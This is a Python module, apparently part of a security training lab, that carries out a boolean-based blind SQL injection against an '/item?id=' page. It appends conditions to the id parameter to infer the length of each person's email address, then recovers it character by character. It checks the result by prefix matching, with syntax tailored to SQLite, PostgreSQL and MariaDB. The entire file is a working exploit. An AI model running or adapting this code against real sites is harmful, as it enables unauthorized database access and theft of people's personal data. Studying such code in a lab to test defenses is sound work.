"""Equality probes, the way people write it on a forum: the length first, then every position in a shuffled order, every
letter until one fits; afterwards the whole value once more as a prefix that grows.

The page is `/item`: a row found makes it larger. MariaDB's comparison would ignore case, hence BINARY there; SQLite's
LIKE does too, hence GLOB.
"""

import random
import string

from drills.laboratory.scripts.client import Client
from drills.laboratory.truth import Cell

_LETTERS = "eaonirsltmdcupgfhkbvwyjzxq" + string.digits + "@.-_+" + string.ascii_uppercase
_MAXIMUM_LENGTH = 60
_PAGE = "/item?id="
_PREFIX = {"sqlite": "GLOB '{}*'", "postgresql": "LIKE '{}%'", "mariadb": "REGEXP BINARY '^{}'"}


def take(site: str, dbms: str, source_address: str, *, persons: tuple[int, ...], seed: int = 3) -> list[Cell]:
    """The mail addresses of `persons` (ids), letter by letter."""
    client, chance = Client(site, source_address), random.Random(seed)  # noqa: S311
    found_size = client.get(_PAGE, "3").size
    binary = "BINARY " if dbms == "mariadb" else ""

    def holds(condition: str) -> bool:
        return client.get(_PAGE, f"3 and {condition}").size == found_size

    cells = []
    for person in persons:
        secret = f"(select mail from person where id={person})"
        length = next(n for n in range(1, _MAXIMUM_LENGTH) if holds(f"length({secret})={n}"))
        positions = list(range(1, length + 1))
        chance.shuffle(positions)
        letters = {
            position: next(
                (letter for letter in _LETTERS if holds(f"substr({secret},{position},1)={binary}'{letter}'")), "?"
            )
            for position in positions
        }
        value = "".join(letters[position] for position in sorted(letters))
        if not all(holds(secret + " " + _PREFIX[dbms].format(_escaped(value[:n], dbms))) for n in range(1, length + 1)):
            raise ValueError(f"the letters of person {person} do not make the value")
        cells.append(Cell("person", "mail", None, value))
    return cells


def _escaped(prefix: str, dbms: str) -> str:
    if dbms == "mariadb":
        return prefix.replace(".", "[.]").replace("+", "[+]")
    return prefix.replace("_", r"\_") if dbms == "postgresql" else prefix
